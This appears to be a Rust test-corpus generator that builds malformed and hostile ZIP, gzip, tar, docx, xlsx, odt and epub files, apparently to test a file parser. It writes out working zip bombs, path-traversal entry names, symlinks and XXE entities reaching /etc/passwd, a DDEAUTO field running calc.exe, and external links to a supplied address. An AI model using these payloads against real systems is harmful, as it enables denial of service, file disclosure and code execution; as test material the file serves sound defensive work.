//! ZIP, gzip, tar, and office documents, made by hand: no writer would write them.

use super::corpus::Class;

const WORDS: &str = "On 6 May 2001 two people were hurt in Orlec, the doctor said.";

/// One entry of a ZIP file as it is written, whatever it claims to be.
#[derive(Clone)]
pub struct Entry {
    pub name: Vec<u8>,
    pub method: u16,
    pub bytes: Vec<u8>,
    pub claimed_bytes: u32,
    pub checksum: u32,
    pub attributes: u32,
}

pub fn stored(name: impl Into<Vec<u8>>, bytes: impl Into<Vec<u8>>) -> Entry {
    let bytes = bytes.into();
    let (claimed_bytes, checksum) = (bytes.len() as u32, checksum(&bytes));
    Entry { name: name.into(), method: 0, bytes, claimed_bytes, checksum, attributes: 0 }
}

fn bomb(name: &str, runs: usize) -> Entry {
    let claimed_bytes = (runs * 258 + 1) as u32;
    Entry { method: 8, bytes: zeros(runs), claimed_bytes, ..stored(name, "") }
}

fn checksum(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0_u32, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| sum >> 1 ^ if sum & 1 == 1 { 0xEDB8_8320 } else { 0 })
    })
}

/// Deflated: a zero and so many runs of 258 more, thirteen bits each.
pub fn zeros(runs: usize) -> Vec<u8> {
    let mut bits: Vec<bool> = vec![true, true, false];
    let mut code = |code: u32, count: u32| bits.extend((0..count).rev().map(|at| code >> at & 1 == 1));
    code(0b0011_0000, 8);
    for _ in 0..runs {
        code(0b1100_0101, 8);
        code(0, 5);
    }
    code(0, 7);
    let byte =
        |eight: &[bool]| eight.iter().enumerate().fold(0_u8, |byte, (at, bit)| byte | u8::from(*bit) << at);
    bits.chunks(8).map(byte).collect()
}

pub fn written(entries: &[Entry]) -> Vec<u8> {
    let (mut file, mut index) = (Vec::new(), Vec::new());
    for entry in entries {
        let at = file.len() as u32;
        let mut facts = Vec::new();
        facts.extend([20_u16, 0, entry.method, 0, 0].iter().flat_map(|field| field.to_le_bytes()));
        let sizes = [entry.checksum, entry.bytes.len() as u32, entry.claimed_bytes];
        facts.extend(sizes.iter().flat_map(|field| field.to_le_bytes()));
        facts.extend((entry.name.len() as u16).to_le_bytes());
        facts.extend([0, 0]);
        file.extend([b"PK\x03\x04", facts.as_slice(), &entry.name, &entry.bytes].concat());
        let rest = [&[0_u8; 6], entry.attributes.to_le_bytes().as_slice(), &at.to_le_bytes()].concat();
        index.extend([b"PK\x01\x02\x14\x03", facts.as_slice(), &rest, &entry.name].concat());
    }
    let (at, length, count) = (file.len() as u32, index.len() as u32, (entries.len() as u16).to_le_bytes());
    file.extend(index);
    let end = [&[0, 0, 0, 0], count.as_slice(), &count, &length.to_le_bytes(), &at.to_le_bytes(), &[0, 0]];
    file.extend([b"PK\x05\x06", end.concat().as_slice()].concat());
    file
}

pub fn zip() -> Class {
    let mut class = Class::new("zip");
    let words = |name: &str, number: usize| stored(name, format!("{WORDS} {number}"));
    let names = [
        "../../harm.txt",
        "/tmp/harm.txt",
        "C:\\harm.txt",
        "..\\..\\harm.txt",
        "CON",
        "a:b.txt",
        "\u{1b}[2Jharm.txt",
        "a\0b.txt",
        "",
        "dir/",
    ];
    for (idx, name) in names.iter().enumerate() {
        class.either(format!("name-{idx}.zip"), written(&[words(name, idx)]));
    }
    let link = Entry { attributes: 0o120_777 << 16, ..stored("link", "/etc/passwd") };
    class.either("link.zip", written(&[link, words("link/harm.txt", 1)]));
    class.either("twice.zip", written(&[words("a.txt", 2), words("a.txt", 3)]));
    class.either("case.zip", written(&[words("a.txt", 4), words("A.TXT", 5)]));
    class.either("bomb.zip", written(&[bomb("zeros.txt", 100_000)]));
    class.either("bombs.zip", written(&vec![bomb("zeros.txt", 10_000); 20]));
    class.either("small-claim.zip", written(&[Entry { claimed_bytes: 1, ..bomb("zeros.txt", 20_000) }]));
    class.either("great-claim.zip", written(&[Entry { claimed_bytes: u32::MAX, ..words("a.txt", 6) }]));
    class.either("wrong-sum.zip", written(&[Entry { checksum: 7, ..words("a.txt", 7) }]));
    class.either("method.zip", written(&[Entry { method: 99, ..words("a.txt", 8) }]));
    class.either("many.zip", written(&vec![stored("a.txt", ""); 300]));
    let nested = (0..40).fold(written(&[words("a.txt", 9)]), |inner, _| written(&[stored("a.zip", inner)]));
    class.either("nested.zip", nested);
    let whole = written(&[words("a.txt", 10), words("b.txt", 11)]);
    class.either("cut.zip", &whole[..whole.len() - 30]);
    class.either("no-index.zip", &whole[..100]);
    class.either("overlap.zip", overlapping(200));
    class
}

/// Every entry of the index is the same stretch of the file.
fn overlapping(count: u16) -> Vec<u8> {
    let one = written(&[bomb("zeros.txt", 2_000)]);
    let find = |mark: &[u8]| one.windows(4).rposition(|at| at == mark).unwrap();
    let (index, end) = (find(b"PK\x01\x02"), find(b"PK\x05\x06"));
    let entry = &one[index..end];
    let mut file = [&one[..index], &entry.repeat(count.into())].concat();
    let length = (entry.len() * usize::from(count)) as u32;
    let counts = [count.to_le_bytes(), count.to_le_bytes()].concat();
    file.extend(
        [
            b"PK\x05\x06\0\0\0\0",
            counts.as_slice(),
            &length.to_le_bytes(),
            &(index as u32).to_le_bytes(),
            &[0, 0],
        ]
        .concat(),
    );
    file
}

pub fn gzip_and_tar() -> Class {
    let mut class = Class::new("gzip and tar");
    let gzip = |deflated: &[u8]| [b"\x1f\x8b\x08\0\0\0\0\0\0\x03", deflated, &[0; 8]].concat();
    class.either("bomb.gz", gzip(&zeros(100_000)));
    class.either("twice.gz", [gzip(&zeros(10)), gzip(&zeros(20))].concat());
    class.either("cut.gz", gzip(&zeros(100))[..60].to_vec());
    class.either("head.gz", b"\x1f\x8b\x08\xff\0\0\0\0\0\x03".to_vec());
    class.either("name.gz", [b"\x1f\x8b\x08\x08\0\0\0\0\0\x03../../harm\0".to_vec(), zeros(3)].concat());
    class.either("reserved.gz", gzip(&[0xff; 64]));
    for (idx, name) in
        ["../harm.txt", "/tmp/harm.txt", "a\u{1b}[2J.txt", "a/../../harm.txt"].iter().enumerate()
    {
        class.either(format!("name-{idx}.tar"), tar(name, b'0', "00000000074", WORDS));
    }
    class.either("link.tar", tar("link", b'2', "00000000000", ""));
    class.either("hard-link.tar", tar("link", b'1', "00000000000", ""));
    class.either("device.tar", tar("device", b'3', "00000000000", ""));
    class.either("size.tar", tar("a.txt", b'0', "77777777777", WORDS));
    class.either("size-text.tar", tar("a.txt", b'0', "not a size!", WORDS));
    class.either("long-name.tar", tar("././@LongLink", b'L', "77777777777", &"a".repeat(5_000)));
    class
}

fn tar(name: &str, kind: u8, size: &str, content: &str) -> Vec<u8> {
    let mut head = vec![0_u8; 512];
    let mut put = |at: usize, words: &[u8]| head[at..at + words.len()].copy_from_slice(words);
    put(0, name.as_bytes());
    put(100, b"0000644\0");
    put(124, size.as_bytes());
    put(136, b"00000000000");
    put(148, b"        ");
    put(156, &[kind]);
    put(157, b"/etc/passwd");
    put(257, b"ustar\x0000");
    let sum: u32 = head.iter().map(|byte| u32::from(*byte)).sum();
    head[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut content = content.as_bytes().to_vec();
    content.resize(content.len().div_ceil(512) * 512 + 1024, 0);
    [head, content].concat()
}

pub fn office(address: &str) -> Class {
    let mut class = Class::new("office documents");
    let types = stored(
        "[Content_Types].xml",
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>",
    );
    let link = |kind: &str| {
        format!(
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='http://{address}/a' TargetMode='External'/></Relationships>"
        )
    };
    let document = |inner: &str| {
        format!(
            "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>{inner}</w:body></w:document>"
        )
    };
    let docx = |inner: &str, kind: &str| {
        written(&[
            types.clone(),
            stored("word/document.xml", document(inner)),
            stored("word/_rels/document.xml.rels", link(kind)),
        ])
    };
    for kind in ["attachedTemplate", "image", "oleObject", "frame", "subDocument"] {
        class.either(format!("{kind}.docx"), docx("", kind));
    }
    class.either("depth.docx", docx(&"<w:p><w:r>".repeat(50_000), "image"));
    class.either("field.docx", docx("<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\calc.exe'/></w:p>", "image"));
    let laughs =
        "<!DOCTYPE x [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>]>";
    class.either(
        "entities.docx",
        written(&[types.clone(), stored("word/document.xml", laughs.to_owned() + &document("&b;&c;"))]),
    );
    class.either("bomb.docx", written(&[types.clone(), bomb("word/document.xml", 100_000)]));
    let sheet = |inner: &str| {
        format!(
            "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>{inner}</sheetData></worksheet>"
        )
    };
    let book = "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><sheets><sheet name='a' sheetId='1' r:id='r1'/></sheets></workbook>";
    let rels = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet' Target='worksheets/sheet1.xml'/></Relationships>";
    let xlsx = |inner: &str| {
        written(&[
            types.clone(),
            stored("xl/workbook.xml", book),
            stored("xl/_rels/workbook.xml.rels", rels),
            stored("xl/worksheets/sheet1.xml", sheet(inner)),
        ])
    };
    let inner = [
        "<row r='1'><c r='A1'><f>WEBSERVICE(\"http://x/\")</f><v>1</v></c></row>",
        "<row r='1048576'><c r='XFD1048576'><v>1</v></c></row><row r='1'><c r='A1'><v>2</v></c></row>",
        "<row r='99999999999'><c r='ZZZZZZZZ9'><v>1e999</v></c></row>",
        "<row><c t='s'><v>4294967295</v></c><c t='s'><v>-1</v></c></row>",
        "<row><c t='inlineStr'><is><t>",
    ];
    for (idx, inner) in inner.iter().enumerate() {
        class.either(format!("cells-{idx}.xlsx"), xlsx(inner));
    }
    class.either(
        "bomb.xlsx",
        written(&[
            types.clone(),
            stored("xl/workbook.xml", book),
            stored("xl/_rels/workbook.xml.rels", rels),
            bomb("xl/worksheets/sheet1.xml", 100_000),
        ]),
    );
    class.either("empty.odt", written(&[stored("mimetype", "application/vnd.oasis.opendocument.text")]));
    class.either(
        "depth.odt",
        written(&[
            stored("mimetype", "application/vnd.oasis.opendocument.text"),
            stored("content.xml", "<a>".repeat(100_000)),
        ]),
    );
    class.either(
        "path.epub",
        written(&[
            stored("mimetype", "application/epub+zip"),
            stored(
                "META-INF/container.xml",
                "<container><rootfiles><rootfile full-path='../../../etc/passwd'/></rootfiles></container>",
            ),
        ]),
    );
    class
}
